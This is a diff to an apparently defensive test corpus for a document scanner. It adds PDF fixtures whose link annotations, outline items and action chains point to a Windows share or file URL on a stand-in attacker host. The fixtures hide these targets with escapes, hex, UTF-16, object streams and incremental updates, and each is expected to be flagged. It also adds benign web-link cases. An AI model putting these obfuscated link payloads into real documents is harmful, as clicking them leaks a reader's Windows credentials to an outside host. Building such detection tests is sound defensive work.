@@ -76,9 +76,12 @@ import {
   incrementalUpdate,
   incrementalUpdateXrefStream,
   lengthDefinedTwicePdf,
+  linkAnnotations,
+  outlineItem,
   type Packing,
   pageObjects,
   type PdfObj,
+  utf16Hex,
 } from '../../fixtures/active-pdf.ts';
 import { buildZip, docxEntries, MiB, windowsExecutable } from '../../fixtures/files.ts';
 import type { CorpusItem } from './corpus-item.ts';
@@ -476,6 +479,81 @@ function hybridReferencePdf(): Buffer {
   return Buffer.concat([head, objStm, xrefStm, Buffer.from(table, 'latin1')]);
 }
 
+const LINK_CATEGORY = 'PDF link into a Windows share or a local file';
+const linkItem = (id: string, bytes: () => Buffer): CorpusItem => ({
+  id,
+  category: LINK_CATEGORY,
+  declared: 'pdf',
+  bytes: async () => bytes(),
+  expect: 'PDF_ACTION',
+});
+
+/**
+ * Links the reviewer clicks whose target is a Windows share or a local file: Windows connects to
+ * the host with the reviewer's credentials, no browser between. However the target is written
+ * (escapes, hex, UTF-16, a file-spec dictionary, by reference, in an object stream or an update)
+ * and wherever the action is (a link annotation, an outline item, a /Next chain).
+ */
+const linkPdfs: CorpusItem[] = [
+  linkItem('pdf-link-gotor-unc', () => buildPdf(linkAnnotations(`<< /S /GoToR /F ${UNC_FILE} /D [0 /Fit] >>`))),
+  linkItem('pdf-link-uri-file', () =>
+    buildPdf(linkAnnotations('<< /S /URI /URI (file://attacker.example/share/x.pdf) >>')),
+  ),
+  linkItem('pdf-outline-uri-unc', () => buildPdf(outlineItem(`<< /S /URI /URI ${UNC_FILE} >>`))),
+  // PDF's own form of a file name: on Windows `/server/share/…` is `\\server\share\…`.
+  linkItem('pdf-link-gotor-spec-server', () =>
+    buildPdf(linkAnnotations('<< /S /GoToR /F << /Type /Filespec /F (/attacker.example/share/x.pdf) >> >>')),
+  ),
+  // A relative /F, but a reader takes the UTF-16 /UF first.
+  linkItem('pdf-link-gotor-uf-utf16', () =>
+    buildPdf(
+      linkAnnotations(
+        `<< /S /GoToR /F << /Type /Filespec /F (annex.pdf) /UF ${utf16Hex('\\\\attacker.example\\share\\x.pdf')} >> >>`,
+      ),
+    ),
+  ),
+  linkItem('pdf-link-uri-hex-upper-spaces', () =>
+    buildPdf(
+      linkAnnotations(`<< /S /URI /URI <${Buffer.from(' \tFILE://attacker.example/share/x.pdf').toString('hex')}> >>`),
+    ),
+  ),
+  linkItem('pdf-link-uri-octal-unc', () =>
+    buildPdf(linkAnnotations('<< /S /URI /URI (\\134\\134attacker.example\\134share\\134x.pdf) >>')),
+  ),
+  linkItem('pdf-link-gotor-by-reference-objstm', () =>
+    buildPdf(
+      [
+        ...linkAnnotations('<< /S /GoToR /F 8 0 R >>'),
+        { num: 8, body: '<< /Type /Filespec /UF 9 0 R >>' },
+        { num: 9, body: UNC_FILE },
+      ],
+      { packed: [6, 8, 9], packing: 'flate' },
+    ),
+  ),
+  linkItem('pdf-link-next-chain-unc', () =>
+    buildPdf([
+      ...linkAnnotations('<< /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >>'),
+      { num: 8, body: `<< /S /GoToR /F ${UNC_FILE} /D [0 /Fit] >>` },
+    ]),
+  ),
+  // A reader resolves the /S: this is a /URI action.
+  linkItem('pdf-link-type-by-reference', () =>
+    buildPdf([...linkAnnotations(`<< /S 8 0 R /URI ${UNC_FILE} >>`), { num: 8, body: '/URI' }]),
+  ),
+  // A relative link resolved against the catalog's base, which is a share.
+  linkItem('pdf-uri-base-file', () => {
+    const [catalog, ...rest] = linkAnnotations('<< /S /URI /URI (x.pdf) >>');
+    const body = (catalog as PdfObj).body.replace('>>', '/URI << /Base (file://attacker.example/share/) >> >>');
+    return buildPdf([{ num: 1, body }, ...rest]);
+  }),
+  // An update redefines a web link as a share: every definition counts.
+  linkItem('pdf-link-updated-to-unc', () =>
+    incrementalUpdate(buildClassicPdf(linkAnnotations('<< /S /URI /URI (https://www.miit.gov.cn/) >>')), [
+      { num: 6, body: `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI ${UNC_FILE} >> >>` },
+    ]),
+  ),
+];
+
 /** PDFs whose structure cannot be read whole. */
 const unreadablePdfs: CorpusItem[] = [
   {
@@ -563,6 +641,7 @@ const unreadablePdfs: CorpusItem[] = [
     expect: 'PDF_UNREADABLE',
   },
   ...readerPdfs,
+  ...linkPdfs,
 ];
 
 // ── OOXML ────────────────────────────────────────────────────────────────────────────────
@@ -1528,11 +1607,6 @@ const ofdItems: CorpusItem[] = [
 
 export const ACTIVE_CORPUS: readonly CorpusItem[] = [...pdfItems, ...unreadablePdfs, ...officeItems, ...ofdItems];
 
-/** The page objects with a link annotation whose /A is `action` (run when the reviewer clicks it). */
-const linkAnnotation = (action: string): PdfObj[] => [
-  ...pageObjects('', '/Annots [6 0 R]'),
-  { num: 6, body: `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A ${action} >>` },
-];
 /** The page tree again, rotated: what a benign update changes. */
 const ROTATED_PAGES: PdfObj = { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 /Rotate 0 >>' };
 
@@ -1565,7 +1639,8 @@ export const ACTIVE_GENUINE: readonly {
   {
     id: 'pdf-link-annotation-uri',
     declared: 'pdf',
-    bytes: async () => buildClassicPdf(linkAnnotation('<< /S /URI /URI (https://www.miit.gov.cn/) >>')),
+    bytes: async () => buildClassicPdf(linkAnnotations('<< /S /URI /URI (https://www.miit.gov.cn/) >>')),
+    warning: 'EXTERNAL_LINK',
   },
   {
     id: 'pdf-incremental-update-benign',
@@ -1576,7 +1651,8 @@ export const ACTIVE_GENUINE: readonly {
     id: 'pdf-link-annotation-gotor',
     declared: 'pdf',
     // Another file, opened only when the reviewer clicks the link.
-    bytes: async () => buildPdf(linkAnnotation('<< /S /GoToR /F (annex.pdf) /D [0 /Fit] >>')),
+    bytes: async () => buildPdf(linkAnnotations('<< /S /GoToR /F (annex.pdf) /D [0 /Fit] >>')),
+    warning: 'EXTERNAL_LINK',
   },
   {
     id: 'pdf-update-xref-stream-benign',
@@ -1609,6 +1685,46 @@ export const ACTIVE_GENUINE: readonly {
     // A title that quotes PDF syntax (`1 0 obj`, `endstream`) is a string to a reader and to the scan.
     bytes: async () =>
       handwrittenPdf(handwrittenPages('/PageLabels << /Nums [0 << /P (1 0 obj << >> endobj endstream) >>] >>')),
+  },
+  {
+    id: 'pdf-links-https-many',
+    declared: 'pdf',
+    // Seven web links, written plain, hex and escaped, in an object stream: five named, two counted.
+    bytes: async () =>
+      buildPdf(
+        linkAnnotations(
+          ...['a', 'b', 'c', 'd', 'e'].map((page) => `<< /S /URI /URI (https://www.miit.gov.cn/${page}) >>`),
+          `<< /S /URI /URI <${Buffer.from('https://www.miit.gov.cn/f').toString('hex')}> >>`,
+          '<< /S /URI /URI (https://www.miit.gov.cn/\\147) >>',
+        ),
+        { packed: [6, 7, 8, 9, 10, 11, 12], packing: 'flate' },
+      ),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'pdf-link-gotor-filespec-relative',
+    declared: 'pdf',
+    // Another file beside this one, named in a file-spec dictionary (its UTF-16 /UF shown).
+    bytes: async () =>
+      buildPdf(
+        linkAnnotations(
+          `<< /S /GoToR /F << /Type /Filespec /F (annex.pdf) /UF ${utf16Hex('附件/annex.pdf')} >> /D [0 /Fit] >>`,
+        ),
+      ),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'pdf-outline-https',
+    declared: 'pdf',
+    bytes: async () => buildPdf(outlineItem('<< /S /URI /URI (https://www.miit.gov.cn/) >>')),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'pdf-link-gotor-drive',
+    declared: 'pdf',
+    // PDF's form of a drive path (`/c/…` is C:\…): a file on the reviewer's own disk, no host.
+    bytes: async () => buildPdf(linkAnnotations('<< /S /GoToR /F (/c/evidence/annex.pdf) /D [0 /Fit] >>')),
+    warning: 'EXTERNAL_LINK',
   },
   { id: 'docx-hyperlink', declared: 'docx', bytes: docxWithHyperlink, warning: 'EXTERNAL_LINK' },
   { id: 'docx-chart-data', declared: 'docx', bytes: docxWithChart },
